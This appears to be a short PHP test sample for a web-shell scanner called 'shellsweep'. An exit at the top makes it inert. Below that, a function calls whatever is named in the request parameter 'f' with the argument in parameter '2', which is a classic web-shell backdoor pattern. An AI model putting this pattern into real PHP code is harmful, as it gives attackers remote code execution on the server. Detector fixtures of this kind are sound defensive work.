<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
function pick() { return $_GET['f']; }
pick()($_GET[2]);
